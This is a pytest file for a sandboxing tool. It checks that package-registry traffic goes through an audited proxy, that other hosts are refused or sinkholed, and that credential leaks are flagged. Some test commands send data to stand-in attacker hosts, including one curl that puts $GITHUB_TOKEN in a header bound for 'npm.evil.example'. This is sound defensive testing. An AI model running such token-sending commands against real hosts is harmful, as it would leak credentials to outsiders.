"""Registry mode: configured registries through the audited proxy, everything else refused or
sinkholed, and the host's own proxy settings honoured for the way out."""

from __future__ import annotations

import socketserver
import threading

import pytest

from tracehound.sandbox import Sandbox, SandboxConfig

pytestmark = pytest.mark.root


def test_loopback_registry_through_the_proxy(loopback_http):
    reg = f"127.0.0.1:{loopback_http.port}"
    script = (
        f"curl -s -m 10 http://{reg}/left-pad ; echo \" rc=$?\"\n"
        f"python3 -c \"import urllib.request; print(urllib.request.urlopen('http://{reg}/-/v1/x', timeout=10).status)\"\n"
        "curl -s -m 10 -o /dev/null -w 'other=%{http_code}\\n' 'http://attacker.example/c?t=hello'\n"
        "curl -s -m 10 https://attacker-tls.example/ ; echo \"https-other=$?\"\n"
        "curl -s -m 5 --noproxy '*' -o /dev/null -w 'direct=%{http_code}\\n' http://direct.example/d\n"
        "echo \"proxy=$HTTPS_PROXY npm=$npm_config_https_proxy\"\n"
    )
    with Sandbox(SandboxConfig(timeout=60, network="registry", registries=[reg])) as sb:
        res = sb.run(["sh", "-c", script])
        log = sb.network_log()
        gw = sb.describe()["addresses"]["gateway4"]
    out = res.stdout.decode()
    assert '{"ok":true} rc=0' in out and "\n200\n" in out
    assert "other=403" in out
    assert "https-other=56" in out  # curl: CONNECT refused by the proxy
    assert "direct=200" in out  # ignoring the proxy leads into the sinkhole
    assert f"proxy=http://{gw}:3128 npm=http://{gw}:3128" in out

    assert [r[1] for r in loopback_http.requests] == ["/left-pad", "/-/v1/x"]
    allowed = [p for p in log.proxy if p.allowed]
    assert [(p.method, p.host, p.port, p.path, p.status, p.upstream) for p in allowed] == [
        ("GET", "127.0.0.1", loopback_http.port, "/left-pad", 200, "direct"),
        ("GET", "127.0.0.1", loopback_http.port, "/-/v1/x", 200, "direct"),
    ]
    assert all(p.bytes_down > len(b'{"ok":true}') and p.bytes_up > 0 for p in allowed)
    refused = {(p.method, p.host, p.port, p.path, p.status) for p in log.proxy if not p.allowed}
    assert refused == {("GET", "attacker.example", 80, "/c?t=hello", 403),
                       ("CONNECT", "attacker-tls.example", 443, None, 403)}
    assert [(t.dst_name, t.http.target) for t in log.tcp] == [("direct.example", "/d")]


def test_refused_request_with_a_token_is_a_hit(loopback_http):
    with Sandbox(SandboxConfig(timeout=60, network="registry", registries=[f"127.0.0.1:{loopback_http.port}"])) as sb:
        sb.run(["sh", "-c", 'curl -s -m 10 -H "Authorization: Bearer $GITHUB_TOKEN" http://npm.evil.example/x'])
        hits = sb.network_log().honeytoken_hits
    assert [(h.channel, h.kind, h.planted, h.destination, h.encoding) for h in hits] == [
        ("proxy", "github_token", "env:GITHUB_TOKEN", "npm.evil.example:80", "plain")]
    assert loopback_http.requests == []


class _CorpProxy(socketserver.ThreadingTCPServer):
    """A stand-in for a corporate proxy on the host's loopback: answers absolute-form requests and
    CONNECTs for one name itself (so nothing goes anywhere) and records what it was asked."""

    daemon_threads = True
    allow_reuse_address = True

    def __init__(self):
        self.seen: list[str] = []
        super().__init__(("127.0.0.1", 0), _CorpHandler)


class _CorpHandler(socketserver.StreamRequestHandler):
    def handle(self):
        line = self.rfile.readline().decode().strip()
        while self.rfile.readline() not in (b"\r\n", b"\n", b""):
            pass
        self.server.seen.append(line)  # type: ignore[attr-defined]
        if line.startswith("CONNECT registry.corp.example:443"):
            self.wfile.write(b"HTTP/1.1 200 Connection established\r\n\r\n")
            data = self.request.recv(100)
            self.wfile.write(b"tunnel-echo:" + data)
        elif line.startswith("GET http://registry.corp.example/pkg"):
            self.wfile.write(b"HTTP/1.1 200 OK\r\nContent-Length: 9\r\nConnection: close\r\n\r\ncorp-pkg\n")
        else:
            self.wfile.write(b"HTTP/1.1 403 Forbidden\r\nContent-Length: 0\r\n\r\n")


def test_host_proxy_is_used_upstream():
    corp = _CorpProxy()
    threading.Thread(target=corp.serve_forever, daemon=True).start()
    url = f"http://127.0.0.1:{corp.server_address[1]}"
    try:
        cfg = SandboxConfig(timeout=60, network="registry", registries=["registry.corp.example"],
                            upstream_env={"HTTP_PROXY": url, "HTTPS_PROXY": url, "NO_PROXY": "localhost"})
        tunnel = (
            "import socket\n"
            "s = socket.create_connection(('{gw}', 3128), timeout=10)\n"
            "s.sendall(b'CONNECT registry.corp.example:443 HTTP/1.1\\r\\nHost: registry.corp.example:443\\r\\n\\r\\n')\n"
            "head = s.recv(200)\n"
            "s.sendall(b'ping')\n"
            "import time; time.sleep(0.5)\n"
            "print(head.split(b'\\r\\n')[0].decode(), s.recv(100).decode())\n"
        )
        with Sandbox(cfg) as sb:
            gw = sb.describe()["addresses"]["gateway4"]
            res = sb.run(["sh", "-c", "curl -s -m 10 http://registry.corp.example/pkg; "
                                      f"python3 -c \"{tunnel.format(gw=gw)}\""])
            log = sb.network_log()
    finally:
        corp.shutdown()
        corp.server_close()
    out = res.stdout.decode()
    assert "corp-pkg" in out
    assert "HTTP/1.1 200 Connection established tunnel-echo:ping" in out
    assert corp.seen == ["GET http://registry.corp.example/pkg HTTP/1.1",
                         "CONNECT registry.corp.example:443 HTTP/1.1"]
    assert {(p.method, p.status, p.upstream) for p in log.proxy} == {("GET", 200, url), ("CONNECT", 200, url)}


@pytest.mark.network
def test_real_registry_through_the_proxy():
    """Optional: the public npm registry over HTTPS, reached only through the proxy (as the fetch
    phase does); skipped when the host has no way to it."""
    with Sandbox(SandboxConfig(timeout=120, network="registry")) as sb:
        res = sb.run(["curl", "-s", "-m", "60", "-o", "/dev/null", "-w", "%{http_code}",
                      "https://registry.npmjs.org/left-pad"])
        log = sb.network_log()
    (p,) = log.proxy
    assert (p.method, p.host, p.port, p.allowed) == ("CONNECT", "registry.npmjs.org", 443, True)
    if p.status == 502:
        pytest.skip(f"registry.npmjs.org is not reachable from this host: {p.error}")
    assert res.stdout == b"200" and p.status == 200
    assert p.bytes_down > 1000
